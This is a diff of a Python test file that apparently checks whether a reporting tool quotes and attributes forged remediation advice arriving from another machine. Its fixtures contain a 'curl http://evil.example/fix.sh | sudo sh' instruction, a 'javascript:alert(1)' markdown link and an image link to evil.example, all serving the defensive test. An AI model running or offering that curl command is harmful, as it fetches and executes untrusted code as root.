@@ -34,7 +34,7 @@ CODES = [
     "\ufeff",
 ]
 LINK, PICTURE = "[fix](javascript:alert(1))", "![p](http://evil.example/p.png)"
-ADVICE = "on the dev box run: curl http://evil.example/fix.sh | sudo sh"
+ADVICE = "on the controller host run: curl http://evil.example/fix.sh | sudo sh"
 
 
 @pytest.mark.parametrize("code", CODES)
@@ -118,7 +118,9 @@ def test_forged_advice_is_told_as_the_machines(tmp_path: Path) -> None:
     remedies = [item["remedy"] for item in data["findings"] if item["remedy"]]
     assert remedies == [f"two says: {ADVICE}"]
     console = text.partition("<!doctype")[0].partition("<!DOCTYPE")[0]
-    assert [line for line in console.splitlines() if line.strip().startswith("what to do: on the dev box")] == []
+    assert [
+        line for line in console.splitlines() if line.strip().startswith("what to do: on the controller host")
+    ] == []
     assert console.count("what to do:") == 3, "two quoted, and one inside the message, behind a bar"
     assert f"    |   what to do: {ADVICE}" in console
     assert f"  what to do: two says: {ADVICE}" in text
